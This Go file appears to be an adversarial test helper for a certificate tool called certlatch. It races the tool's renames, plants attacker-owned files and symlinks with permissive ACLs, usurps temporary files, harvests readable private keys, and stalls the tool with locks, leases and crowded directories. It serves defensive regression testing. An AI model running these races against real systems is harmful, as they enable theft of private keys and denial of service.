// Hostile is what an unprivileged user of a host would run against certlatch:
// it changes what lies in that user's own directories as fast as it can, and
// opens whatever appears there. It runs until it is killed.
//
// It is no proof that nothing faster exists. The scenarios that use it make as
// many rounds as were enough where there still was the hole.
package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io/fs"
	"log"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	log.SetFlags(0)
	if len(os.Args) < 3 {
		log.Fatal("usage: hostile exchange|plant|plant-generation|grab|lock|lease|usurp|deep|immutable|mutable|lineages|crowd PATH ...")
	}
	attack, args := os.Args[1], os.Args[2:]
	var err error
	switch attack {
	case "exchange":
		err = exchange(args[0], args[1:])
	case "plant":
		err = again(func(n int) error { return plant(args[0], n%2 == 0) })
	case "plant-generation":
		err = again(func(n int) error { return plantGeneration(args[0], fmt.Sprintf("20200101T000000Z-planted%d", n)) })
	case "usurp":
		err = again(func(n int) error { return usurp(args[0], n) })
	case "grab":
		err = grab(args[0], args[1:])
	case "lock":
		err = lock(args)
	case "lease":
		err = lease(args)
	case "deep":
		err = deep(args[0], args[1])
	case "immutable":
		err = setFlags(args[0], 0x10) // FS_IMMUTABLE_FL of include/uapi/linux/fs.h
	case "mutable":
		err = setFlags(args[0], 0)
	case "lineages":
		err = lineages(args[0], args[1])
	case "crowd":
		err = crowd(args[0], args[1])
	default:
		err = errors.New("no attack is called " + attack)
	}
	if err != nil {
		log.Fatal(err)
	}
}

// again repeats an attack without end. It may fail now and then, as in any
// race; that it never works any more is an error.
func again(attack func(n int) error) error {
	failures := 0
	for n := 0; ; n++ {
		err := attack(n)
		if err == nil {
			failures = 0
		} else if failures++; failures == 10000 {
			return err
		}
	}
}

// exchange gives a name to each of the other files for an instant, without an
// instant in which nothing has it. At SIGTERM it ends with every name where it
// was, so that a script knows what lies there.
func exchange(name string, others []string) error {
	end := make(chan os.Signal, 1)
	signal.Notify(end, syscall.SIGTERM)
	for {
		for _, other := range others {
			select {
			case <-end:
				return nil
			default:
			}
			for range 2 {
				if err := unix.Renameat2(unix.AT_FDCWD, name, unix.AT_FDCWD, other, unix.RENAME_EXCHANGE); err != nil {
					return fmt.Errorf("exchange %s and %s: %w", name, other, err)
				}
			}
		}
	}
}

// plant replaces a file by one of this user's own, with rights for this user.
func plant(path string, withACL bool) error {
	temp := path + ".planted"
	if err := os.WriteFile(temp, nil, 0o600); err != nil {
		return err
	}
	if withACL {
		if err := setRights(temp, "system.posix_acl_access"); err != nil {
			return err
		}
		if err := unix.Setxattr(temp, "user.planted", []byte("yes"), 0); err != nil {
			return err
		}
	}
	return os.Rename(temp, path)
}

// plantGeneration makes a generation with rights for this user, and makes the
// link to the current one lead there.
func plantGeneration(directory, name string) error {
	generation := filepath.Join(directory, name)
	if err := os.Mkdir(generation, 0o750); err != nil {
		return err
	}
	for _, list := range []string{"system.posix_acl_access", "system.posix_acl_default"} {
		if err := setRights(generation, list); err != nil {
			return err
		}
	}
	for _, file := range []string{"fullchain.pem", "chain.pem", "privkey.pem"} {
		if err := plant(filepath.Join(generation, file), true); err != nil {
			return err
		}
	}
	temp := filepath.Join(directory, "link")
	if err := os.Symlink(name, temp); err != nil {
		return err
	}
	previous, _ := os.Readlink(filepath.Join(directory, "current"))
	if err := os.Rename(temp, filepath.Join(directory, "current")); err != nil {
		return err
	}
	_ = os.RemoveAll(filepath.Join(directory, previous)) // what is root's cannot be removed
	return nil
}

// usurp removes what somebody else makes in a directory under the names of
// certlatch's temporary files and generations, and puts something of this
// user's own in its place.
func usurp(directory string, n int) error {
	entries, err := os.ReadDir(directory)
	for _, entry := range entries {
		info, err := entry.Info()
		if err != nil || int(info.Sys().(*syscall.Stat_t).Uid) == os.Getuid() || info.Mode().Type() == fs.ModeSymlink {
			continue
		}
		if !strings.HasPrefix(entry.Name(), ".certlatch-") && !strings.HasPrefix(entry.Name(), "20") {
			continue
		}
		path := filepath.Join(directory, entry.Name())
		if os.Rename(path, filepath.Join(directory, fmt.Sprintf("stolen%d", n))) != nil {
			continue
		}
		if !info.IsDir() {
			_ = plant(path, true) // somebody may have been faster
		} else if os.Mkdir(path, 0o750) == nil {
			_ = errors.Join(setRights(path, "system.posix_acl_access"), setRights(path, "system.posix_acl_default"))
		}
	}
	return err
}

// setRights sets an ACL that lets this user do everything.
func setRights(path, list string) error {
	const nobody = ^uint32(0)
	raw := binary.LittleEndian.AppendUint32(nil, 2) // its version (include/uapi/linux/posix_acl_xattr.h)
	for _, entry := range []struct {
		tag, rights uint16 // include/uapi/linux/posix_acl.h
		id          uint32
	}{{0x01, 7, nobody}, {0x02, 7, uint32(os.Getuid())}, {0x04, 0, nobody}, {0x10, 7, nobody}, {0x20, 0, nobody}} {
		raw = binary.LittleEndian.AppendUint16(raw, entry.tag)
		raw = binary.LittleEndian.AppendUint16(raw, entry.rights)
		raw = binary.LittleEndian.AppendUint32(raw, entry.id)
	}
	if err := unix.Setxattr(path, list, raw, 0); err != nil {
		return fmt.Errorf("set %s of %s: %w", list, path, err)
	}
	return nil
}

// grab opens everything below some directories again and again, keeps open
// what it got, and notes in a report whose keys it could read.
func grab(report string, directories []string) error {
	g := grabber{report: report, open: map[uint64]*os.File{}}
	for {
		for _, directory := range directories {
			g.visit(directory, 3)
		}
		for inode, file := range g.open {
			if g.look(file) || len(g.open) > 500 {
				file.Close()
				delete(g.open, inode)
			}
		}
	}
}

type grabber struct {
	report string
	open   map[uint64]*os.File // by inode: what was opened and may be written to yet
}

func (g *grabber) visit(directory string, depth int) {
	entries, _ := os.ReadDir(directory) // what cannot be read may be readable the next time
	for _, entry := range entries {
		path := filepath.Join(directory, entry.Name())
		if entry.IsDir() && depth > 0 {
			g.visit(path, depth-1)
			continue
		}
		file, err := os.OpenFile(path, os.O_RDONLY|unix.O_NONBLOCK|unix.O_NOFOLLOW, 0)
		if err != nil {
			continue
		}
		info, err := file.Stat()
		st, ok := info.Sys().(*syscall.Stat_t)
		if err != nil || !ok || !info.Mode().IsRegular() || int(st.Uid) == os.Getuid() || g.open[st.Ino] != nil || g.look(file) {
			file.Close()
			continue
		}
		g.open[st.Ino] = file
	}
}

// look reports whether a file is of no more interest.
func (g *grabber) look(file *os.File) bool {
	content := make([]byte, 64<<10)
	n, _ := file.ReadAt(content, 0) // an error is no key
	if !bytes.Contains(content[:n], []byte("PRIVATE KEY")) {
		return bytes.Contains(content[:n], []byte("END CERTIFICATE"))
	}
	report, err := os.OpenFile(g.report, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err == nil {
		fmt.Fprintf(report, "read a key in %s\n", file.Name())
		report.Close()
	}
	return true
}

// lock takes a lock (flock(2)) on whatever can be opened in some directories,
// and never lets go.
func lock(directories []string) error {
	locked := map[string]bool{}
	for {
		for _, directory := range directories {
			entries, _ := os.ReadDir(directory) // it may not be there yet
			for _, entry := range entries {
				path := filepath.Join(directory, entry.Name())
				if locked[path] || !strings.HasPrefix(entry.Name(), ".") {
					continue
				}
				fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_NOFOLLOW|unix.O_CLOEXEC, 0)
				if err != nil {
					continue
				}
				locked[path] = unix.Flock(fd, unix.LOCK_EX|unix.LOCK_NB) == nil
				if !locked[path] {
					unix.Close(fd)
				}
			}
		}
	}
}

// lease makes whoever opens some files wait (fcntl(2), F_SETLEASE), for as long
// as the kernel allows.
func lease(paths []string) error {
	signal.Ignore(unix.SIGIO)
	var files []*os.File
	for _, path := range paths {
		file, err := os.Open(path)
		if err != nil {
			return err
		}
		defer file.Close()
		files = append(files, file)
	}
	for {
		for _, file := range files {
			_, _ = unix.FcntlInt(file.Fd(), unix.F_SETLEASE, unix.F_WRLCK) // not while another has it open
		}
		time.Sleep(time.Millisecond)
	}
}

// deep makes a number of directories, one in the other.
func deep(path, levels string) error {
	count, err := strconv.Atoi(levels)
	if err != nil {
		return err
	}
	if err := os.Mkdir(path, 0o755); err != nil {
		return err
	}
	at, err := unix.Open(path, unix.O_DIRECTORY, 0)
	for n := 0; n < count && err == nil; n++ {
		if err = unix.Mkdirat(at, "d", 0o755); err != nil {
			break
		}
		var next int
		next, err = unix.Openat(at, "d", unix.O_DIRECTORY, 0)
		unix.Close(at)
		at = next
	}
	return err
}

// setFlags sets a file's flags, as chattr(1) does.
func setFlags(path string, flags int) error {
	file, err := os.Open(path)
	if err != nil {
		return err
	}
	defer file.Close()
	return unix.IoctlSetPointerInt(int(file.Fd()), unix.FS_IOC_SETFLAGS, flags)
}

// lineages makes a number of lineages in a directory, whose files hold no more
// than their names.
func lineages(directory, count string) error {
	n, err := strconv.Atoi(count)
	if err != nil {
		return err
	}
	for i := range n {
		path := filepath.Join(directory, fmt.Sprintf("n%06d.crowd.example", i))
		if err := lineage(path, func(path string) error { return os.WriteFile(path, []byte(path), 0o600) }); err != nil {
			return err
		}
	}
	return nil
}

// lineage makes a directory with something in place of each of a lineage's
// files.
func lineage(path string, file func(path string) error) error {
	if err := os.Mkdir(path, 0o755); err != nil {
		return err
	}
	return errors.Join(file(path+"/fullchain.pem"), file(path+"/privkey.pem"))
}

// crowd fills a directory with a number of everything that is no lineage: empty
// directories, links in a ring, FIFOs, sockets, devices, and links and FIFOs in
// the place of a lineage's files.
func crowd(directory, count string) error {
	n, err := strconv.Atoi(count)
	if err != nil {
		return err
	}
	ring := func(path string) error { return os.Symlink(filepath.Base(path), path) }
	fifo := func(path string) error { return unix.Mkfifo(path, 0o666) }
	node := func(kind uint32, device uint64) func(string) error {
		return func(path string) error { return unix.Mknod(path, kind|0o666, int(device)) }
	}
	kinds := []func(path string) error{
		func(path string) error { return os.Mkdir(path, 0o755) },
		ring, fifo,
		node(unix.S_IFSOCK, 0),
		node(unix.S_IFCHR, unix.Mkdev(1, 5)), // zero(4): never at its end
		func(path string) error { return lineage(path, ring) },
		func(path string) error { return lineage(path, fifo) },
		func(path string) error { return lineage(path, node(unix.S_IFSOCK, 0)) },
		func(path string) error { return lineage(path, node(unix.S_IFCHR, unix.Mkdev(1, 5))) },
		func(path string) error {
			return lineage(path, func(path string) error { return os.Mkdir(path, 0o755) })
		},
	}
	for i := range n {
		path := filepath.Join(directory, fmt.Sprintf("n%06d.crowd.example", i))
		if err := kinds[i%len(kinds)](path); err != nil && !errors.Is(err, fs.ErrExist) {
			return err
		}
	}
	return nil
}
